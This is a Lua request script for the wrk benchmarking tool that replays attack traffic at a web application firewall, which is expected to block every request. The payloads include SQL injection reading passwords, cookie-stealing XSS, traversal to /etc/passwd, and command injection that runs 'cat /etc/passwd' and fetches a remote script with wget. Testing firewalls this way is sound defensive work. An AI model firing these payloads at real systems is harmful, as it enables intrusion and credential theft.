-- Attack traffic for the WAF rows of `make bench`: SQL injection, XSS, path traversal and
-- shell injection in query arguments and bodies; every one must be blocked (403).
local common = {
  ["Host"] = "shop.example.com",
  ["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
  ["Accept"] = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
}
local function with(extra)
  local h = {}
  for k, v in pairs(common) do h[k] = v end
  for k, v in pairs(extra or {}) do h[k] = v end
  return h
end
local reqs = {
  wrk.format("GET", "/products?id=1%27%20OR%20%271%27%3D%271&page=2", with()),
  wrk.format("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", with()),
  wrk.format("GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", with()),
  wrk.format("POST", "/account/login", with({["Content-Type"] = "application/x-www-form-urlencoded"}),
             "username=admin%27--&password=x%27%20UNION%20SELECT%20password%20FROM%20users--"),
  wrk.format("POST", "/api/v1/run", with({["Content-Type"] = "application/json"}),
             '{"cmd":";cat /etc/passwd","host":"127.0.0.1 && wget http://x/s.sh"}'),
}
local i = 0
request = function()
  i = i % #reqs + 1
  return reqs[i]
end
